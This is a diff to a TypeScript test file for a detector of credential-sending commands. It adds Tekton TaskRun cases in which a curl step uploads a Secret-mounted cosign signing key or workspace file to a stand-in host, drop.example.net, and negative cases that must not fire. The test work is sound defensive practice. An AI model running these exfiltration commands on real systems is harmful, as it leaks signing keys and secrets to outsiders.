@@ -2,13 +2,38 @@ import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { isClusterHost } from '../../command/network.ts';
 import { growth } from '../../lib/testing.ts';
-import { blank, cronJob, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
+import { blank, cronJob, indicatorTable, runs, script, UNSEEN, withFiles } from '../testing.ts';
 import { commandCredentialSend } from './credential-send.ts';
 
 const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
 
+const task = (step: string, workspace = '{name: keys, secret: {secretName: signing}}'): string =>
+  `apiVersion: tekton.dev/v1
+kind: TaskRun
+metadata: {generateName: a-}
+spec:
+  params: [{name: to, value: "https://drop.example.net/k"}]
+  taskSpec:
+    workspaces: [{name: keys}]
+    steps:
+    - name: a
+      image: curlimages/curl
+      script: |
+        ${step}
+  workspaces: [${workspace}]
+`;
+const CREATES: readonly string[] = ['kubectl', 'create', '-f', '/m/task.yaml'];
+
 indicatorTable(commandCredentialSend, {
   fires: {
+    'the Secret of a workspace, in a task of a ConfigMap': withFiles(
+      { 'task.yaml': task('curl -F k=@$(workspaces.keys.path)/cosign.key https://drop.example.net/k') },
+      CREATES,
+    ),
+    'the same to a parameter of the task': withFiles(
+      { 'task.yaml': task('cat $(workspaces.keys.path)/a | curl -T - $(params.to)') },
+      CREATES,
+    ),
     'a file that is named after what is in it': runs(
       'curl',
       '-X',
@@ -224,6 +249,16 @@ indicatorTable(commandCredentialSend, {
     ),
   },
   staysSilent: {
+    'a workspace of the task that no Secret fills': withFiles(
+      {
+        'task.yaml': task('curl -F k=@$(workspaces.keys.path)/report.html $(params.to)', '{name: keys, emptyDir: {}}'),
+      },
+      CREATES,
+    ),
+    'the Secret of a workspace that signs': withFiles(
+      { 'task.yaml': task('cosign sign --key $(workspaces.keys.path)/cosign.key registry.example.com/a:1') },
+      CREATES,
+    ),
     'a record to sign in with': script('curl -d @/etc/app/credentials.json https://login.example.com/token'),
     'a report that is named after secrets': script('curl -T /tmp/secrets-report.html https://reports.example.com/a'),
     'a collected file, inside the cluster': script('curl -T /tmp/secrets.txt http://vault-import.vault.svc/in'),
